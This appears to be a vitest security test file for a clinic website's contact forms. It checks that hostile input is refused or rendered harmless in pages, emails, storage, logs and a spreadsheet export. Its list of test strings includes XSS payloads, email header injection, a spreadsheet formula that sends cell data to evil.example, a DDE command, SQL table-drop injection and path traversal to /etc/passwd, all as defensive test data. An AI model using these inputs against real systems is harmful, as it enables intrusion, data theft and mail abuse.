import { describe, expect, test } from "vitest";
import { clinic } from "../../commands/clinic.ts";
import { newPlace, openStore } from "../../test/database.ts";
import { startMailServer } from "../../test/mail-server.ts";
import { startSite } from "../../test/site.ts";
import { type Answers, type Form, hiddenFields } from "../submissions/form.ts";
import { forms } from "./all.ts";

const desk = "desk@clinic.example";
const [place, mail] = [await newPlace(), await startMailServer()];
const site = await startSite(place, { SMTP_URL: mail.url, MAIL_TO: desk, LOG_LEVEL: "warn" });
const db = openStore(place);

/** The kinds of the Big List of Naughty Strings. None may run, break out, or bring the site down. */
const naughty: Record<string, string> = {
  html: `"'><x-naughty onclick="naughty()"></textarea></script><script>naughty()</script><!--`,
  attribute: `" autofocus onfocus="naughty()" x="`,
  entity: "&lt;x-naughty&gt; &amp;amp; &#60;x-naughty&#62;",
  "script in an address": "javascript:naughty()",
  "control characters":
    "a\u0001\u0002\u0007\u0008\u000B\u000C\u000E\u001B[2J\u001F\u007F\u0085\u009Bz",
  NUL: "before\u0000after",
  "line ends": "one\rtwo\nthree\r\nfour\u2028five\u2029six",
  emoji: "👩🏽‍⚕️👨‍👩‍👧‍👦🇨🇦 🏳️‍🌈",
  "right to left": "مرحبا \u202Ecod.exe\u202C שלום \u2067abc\u2069",
  "zero width": "a\u200B\u200C\u200D\u2060\uFEFFb",
  "only zero width": "\u200B\u200D",
  zalgo: "T̸̨̛̗̫̈́̀o̴͚͝n̵̰̈y̶̢̽ ﷽ Ω≈ç√∫˜µ ",
  "five thousand characters": "x".repeat(5_000),
  "header injection": "Ada\r\nBcc: victim@evil.example\r\n\r\n<x-naughty>",
  "address list": "ada@example.com, victim@evil.example",
  "address with a header": "ada@example.com\nCc: victim@evil.example",
  "address in a name": '"Ada" <victim@evil.example>',
  formula: `=HYPERLINK("http://evil.example?"&A1,"open")`,
  "formula by plus": "+1+cmd|' /C calc'!A0",
  "formula by minus": "-1+1",
  "formula by at": "@SUM(1+1)",
  "formula after a tab": "\t=1+1",
  "formula after a line end": "\r\n=1+1",
  "formula after nothing visible": "\u0000\u200B =1+1",
  "formula in full width": "＝1+1",
  sql: "'; drop table submissions; --",
  template: "{{phone}} ${7*7} #{7*7} <%= 7*7 %> %s%n%d",
  path: "../../../../etc/passwd%00",
  "object keys": "__proto__",
  numbers: "NaN",
};

const person: Record<Form["fields"][number]["type"], string> = {
  text: "Ada Lee",
  tel: "416-555-0123",
  email: "ada@example.com",
  textarea: "Mornings suit me.",
  select: "",
};

const newLines = (text: string) => text.replaceAll("\r\n", "\n");

function complete(form: Form): Answers {
  const answers = Object.fromEntries(
    form.fields.map(({ name, type, options }) => [name, options?.[0] ?? person[type]]),
  );
  return form.consent ? { ...answers, [form.consent.name]: "Yes" } : answers;
}

function post(path: string, body: string | URLSearchParams) {
  return fetch(`${site.url}${path}`, {
    method: "POST",
    redirect: "manual",
    headers: { "content-type": "application/x-www-form-urlencoded" },
    body: body.toString(),
  });
}

function expectHarmless(page: string, what: string) {
  expect(page, what).not.toMatch(/<x-naughty/i);
  expect(page, what).not.toMatch(/<script[^>]*>naughty/i);
  expect(page, what).not.toMatch(/[^\\]" autofocus onfocus="naughty/i);
  expect(page, what).not.toMatch(/(href|src|action)="?javascript:/i);
}

describe.each(forms.map((form) => [form.name, form] as const))("the form %s", (_name, form) => {
  const unseen = [...Object.values(hiddenFields), "__proto__", "constructor"];
  const visible = [...form.fields.map(({ name }) => name), form.consent?.name ?? []].flat();

  test.each(Object.entries(naughty))("takes or refuses %s in every field", async (kind, text) => {
    for (const names of [...visible.map((name) => [name]), unseen]) {
      const [name] = names as [string];
      const answers = { ...complete(form), sendKey: crypto.randomUUID() };
      const answer = await post(
        form.path,
        new URLSearchParams([
          ...Object.entries(answers).filter(([other]) => !names.includes(other)),
          ...names.map((one) => [one, text]),
        ]),
      );
      const field = form.fields.find((one) => one.name === name);
      const refused =
        field && (field.options !== undefined || [...newLines(text)].length > field.longest);
      expect(answer.status, name).toBe(refused ? 400 : 303);
      if (refused) expectHarmless(await answer.text(), `${kind} in ${name}`);
    }
  });

  test.each(Object.entries(naughty))(
    "gives %s back as it was typed, harmless",
    async (kind, text) => {
      const typed = Object.fromEntries(form.fields.map(({ name }) => [name, text]));
      const answer = await post(
        form.path,
        new URLSearchParams({ ...typed, [form.fields[0]!.name]: " " }),
      );
      expect(answer.status).toBe(400);
      const page = await answer.text();
      expectHarmless(page, kind);
      expect(page).toContain(form.incomplete.title);
    },
  );
});

test("bytes that are no text at all are answered without an error of ours", async () => {
  for (const form of forms) {
    for (const bytes of ["%ED%A0%80", "%FF%FE%00", "%zz%", "%C0%AF", "%F4%90%80%80"]) {
      const body = new URLSearchParams(complete(form)).toString();
      const hostile = form.fields.map(({ name }) => `${name}=${bytes}`).join("&");
      for (const sent of [`${hostile}&${body}`, `${body}&${hostile}`, `${bytes}=${bytes}`]) {
        expect((await post(form.path, sent)).status).toBeLessThan(500);
      }
    }
  }
  for (const half of ["\\ud800", "\\udfff", "a\\udc00\\ud800b"]) {
    const answer = await site.send(
      {},
      {
        body: `{"fullName":"${half}","phone":"${half}","email":"${half}","message":"${half}"}`,
      },
    );
    expect(answer.status).toBe(200);
  }
});

test.each(Object.entries(naughty))(
  "%s through the JSON endpoint and in addresses",
  async (kind, text) => {
    for (const name of ["fullName", "phone", "email", "message", "helpWith", "sendKey"]) {
      const answer = await site.send({
        ...complete(forms[0]!),
        sendKey: crypto.randomUUID(),
        [name]: text,
      });
      expect(answer.status, name).toBeLessThan(500);
    }
    for (const path of [
      "/thank-you?ref=",
      "/offer-thank-you?ref=",
      "/landing?sent=",
      "/contact?sent=",
      "/mva-landing?sent=",
    ]) {
      const answer = await fetch(`${site.url}${path}${encodeURIComponent(text.slice(0, 1_000))}`);
      expect(answer.status).toBeLessThan(500);
      expectHarmless(await answer.text(), `${kind} in ${path}`);
    }
  },
);

test("every letter has the clinic as its only recipient, the usual headers, and nothing that runs", async () => {
  const { length } = await db.selectFrom("letters").select("id").execute();
  await mail.waitForLetters(length, 60_000);
  expect(mail.letters).toHaveLength(length);
  expect(mail.attempts(), "one recipient each").toBe(length);

  const usual = ["from", "to", "reply-to", "subject", "message-id", "date", "mime-version"];
  const subjects = forms.map(({ subject }) => subject.replaceAll(/[()%]/g, "\\$&")).join("|");
  for (const { headerLines, html, raw, subject, to, replyTo, text } of mail.letters) {
    const keys = headerLines.map(({ key }) => key);
    expect(new Set(keys).size).toBe(keys.length);
    expect(
      keys.filter((key) => !usual.includes(key) && !/^(content-|auto-submitted|x-)/.test(key)),
    ).toEqual([]);
    expect(subject).toMatch(new RegExp(`^(\\[Suspected spam\\] )?(${subjects}) [A-Z]{3}-\\d{4}$`));
    expect([to].flat()[0]!.text).toBe(desk);
    expect([undefined, "ada@example.com"]).toContain(replyTo?.text);
    expect(raw.split("\r\n\r\n")[0]).not.toMatch(/evil|naughty/);
    expect(text).toContain("Reference");
    expectHarmless(html || "", subject!);
    for (const [, address] of (html || "").matchAll(/href="([^"]*)"/g)) {
      expect(address).toMatch(/^(tel:[+\d]+|mailto:[\w.%+-]+@[\w.-]+)$/);
    }
  }
}, 90_000);

test("what was sent is stored and mailed as it was typed", async () => {
  const [form] = forms;
  const references = new Map<string, string>();
  for (const text of Object.values(naughty).filter((one) => one.length < 1_000)) {
    const answers = { ...complete(form!), message: text };
    const answer = await post(
      form!.path,
      new URLSearchParams({ ...answers, sendKey: crypto.randomUUID() }),
    );
    references.set(/[A-Z]{3}-\d{4}/.exec(answer.headers.get("location")!)![0], newLines(text));
  }
  const rows = await db.selectFrom("submissions").select(["reference", "answers"]).execute();
  for (const { reference, answers } of rows) {
    const text = references.get(reference);
    if (text !== undefined) expect((JSON.parse(answers) as Answers).message).toBe(text);
  }
});

test("the export is safe to open in a spreadsheet", async () => {
  const printed: string[] = [];
  const remarked: string[] = [];
  const code = await clinic(["submissions", "export"], {
    environment: place,
    now: () => new Date(),
    print: (text) => void printed.push(text),
    remark: (text) => void remarked.push(text),
  });
  expect(remarked).toEqual([]);
  expect(code).toBe(0);
  const [header, ...rows] = readCsv(printed.join("\n").replace(/^\uFEFF/, ""));
  const stored = await db.selectFrom("submissions").select("id").execute();
  expect(rows).toHaveLength(stored.length);
  for (const cells of rows) {
    expect(cells).toHaveLength(header!.length);
    for (const cell of cells) expect(cell).not.toMatch(/^([\t\r\n]|[\s\p{C}]*[=+\-@＝＋－＠])/u);
  }
});

test("none of it is in the log", () => {
  expect(site.lines.join("\n")).not.toMatch(/naughty|evil\.example/);
});

/** The cells of a CSV text, as RFC 4180 has it. */
function readCsv(text: string): string[][] {
  const rows: string[][] = [[]];
  for (const [, quoted, plain, end] of text.matchAll(
    /(?:"((?:[^"]|"")*)"|([^",\r\n]*))(,|\r\n|$)/g,
  )) {
    rows.at(-1)!.push(quoted === undefined ? (plain ?? "") : quoted.replaceAll('""', '"'));
    if (end === "") break;
    if (end === "\r\n") rows.push([]);
  }
  return rows;
}
